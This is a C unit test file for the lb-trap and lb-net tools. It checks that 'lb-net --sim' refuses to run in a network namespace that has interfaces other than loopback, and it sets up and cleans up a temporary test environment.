
/*
 * lb-net --sim changes a namespace only when lo is its only interface: on
 * this machine's own (as root in CI), it must refuse before any change.
 */
static void
test_net_sealed(void)
{
	struct if_nameindex *ifs = if_nameindex(), *i;
	char net_bin[PATH_MAX + 16], want[300], other[IF_NAMESIZE + 1] = "";
	const char *argv[6];
	char *out, *err, *slash;
	int rc;

	for (i = ifs; ifs != NULL && i->if_index != 0; i++)
		if (other[0] == '\0' && strcmp(i->if_name, "lo") != 0)
			snprintf(other, sizeof(other), "%s", i->if_name);
	if (ifs != NULL)
		if_freenameindex(ifs);
	if (other[0] == '\0') {
		ok(1, "net sealed: only lo here (skipped)");
		ok(1, "net sealed: only lo here (skipped)");
		return;
	}
	snprintf(net_bin, sizeof(net_bin), "%s", trap_bin);
	slash = strrchr(net_bin, '/');
	snprintf(slash + 1, sizeof(net_bin) - (size_t)(slash + 1 - net_bin),
	    "lb-net");
	argv[0] = net_bin;
	argv[1] = "--sim";
	argv[2] = "1";
	argv[3] = "--";
	argv[4] = "/bin/true";
	argv[5] = NULL;
	rc = run(argv, &out, &err);
	is_int(rc, 1, "net sealed: refused, exit 1");
	snprintf(want, sizeof(want),
	    "lb-net: refusing to simulate the internet in a network namespace "
	    "with interface '%s': only lo may exist\n",
	    other);
	is_str(err, want, "net sealed: message names the interface");
	free(out);
	free(err);
}

static int
rm_one(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st;
	(void)flag;
	(void)ftw;
	return remove(path);
}

int
main(void)
{
	char self[PATH_MAX], *slash, home[300];
	ssize_t n;

	n = readlink("/proc/self/exe", self, sizeof(self) - 1);
	if (n <= 0)
		return 1;
	self[n] = '\0';
	slash = strrchr(self, '/'); /* BUILD/unit/test_trap_bin */
	*slash = '\0';
	slash = strrchr(self, '/');
	*slash = '\0';
	snprintf(trap_bin, sizeof(trap_bin), "%s/lb-trap", self);
	snprintf(tmpdir, sizeof(tmpdir), "%s/lb-trap-bin.XXXXXX",
	    getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
	if (mkdtemp(tmpdir) == NULL)
		return 1;
	/* curl reads no config; the sanitizers keep their options. */
	snprintf(home, sizeof(home), "HOME=%s", tmpdir);
	clean_env[1] = home;
	{
		static const char *keep[] = { "ASAN_OPTIONS", "UBSAN_OPTIONS",
			"LSAN_OPTIONS" };
		static char kv[3][1024];
		int k = 2;

		for (int i = 0; i < 3; i++)
			if (getenv(keep[i]) != NULL) {
				snprintf(kv[i], sizeof(kv[i]), "%s=%s", keep[i],
				    getenv(keep[i]));
				clean_env[k++] = kv[i];
			}
	}
	signal(SIGPIPE, SIG_IGN);
	if (access(trap_bin, X_OK) != 0) {
		printf("not ok 1 - lb-trap is not built at %s\n", trap_bin);
		printf("1..1\n");
		return 1;
	}
	test_running();
	test_errors();
	test_sim();
	test_inherited();
	test_net_sealed();
	nftw(tmpdir, rm_one, 16, FTW_DEPTH | FTW_PHYS);
	return tap_done();
}
